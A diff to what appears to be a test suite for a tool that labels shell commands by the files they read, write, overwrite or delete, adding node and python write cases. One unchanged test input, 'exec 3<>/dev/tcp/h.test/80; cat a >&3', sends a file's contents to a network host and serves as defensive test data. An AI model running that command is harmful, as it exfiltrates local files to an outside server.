@@ -28,7 +28,10 @@ describe("a redirection", () => {
     ["{ :; } > a", ["overwrite", "writes a"]],
     ["/usr/bin/time -o a ls", ["writes a"]],
     ["sqlite3 a.db '.output b' 'select 1'", ["reads a.db", "writes b"]],
-    [`node -e "require('fs').writeFileSync('a/b','')"`, ["writes a/b"]],
+    [`node -e "require('fs').writeFileSync('a/b','x')"`, ["writes a/b"]],
+    [`node -e "require('fs').writeFileSync('a/b','')"`, ["overwrite", "writes a/b"]],
+    [`python3 -c "open('a','w').close()"`, ["overwrite", "writes a"]],
+    [`python3 -c "open('a','w').write('x')"`, ["writes a"]],
     [
       "exec 3<>/dev/tcp/h.test/80; cat a >&3",
       [
@@ -82,7 +85,7 @@ describe("a patch", () => {
       "--- a/x.ts\n+++ b/x.ts\n@@ -1 +1 @@\n-a\n+b\n--- a/old.ts\n+++ /dev/null\n--- /dev/null\n+++ b/new.ts\n";
     expect(told(`git apply <<'END'\n${patch}END\n`)).toEqual(["writes x.ts", "deletes old.ts", "writes new.ts"]);
     expect(told(`patch -p1 <<'END'\n${patch}END\n`)).toEqual(["writes x.ts", "deletes old.ts", "writes new.ts"]);
-    expect(told("git apply < a.patch")).toEqual(["writes . tree", "reads a.patch"]);
+    expect(told("git apply < a.patch")).toEqual(["writes . tree", "unknown: git apply < a.patch", "reads a.patch"]);
   });
 });
 
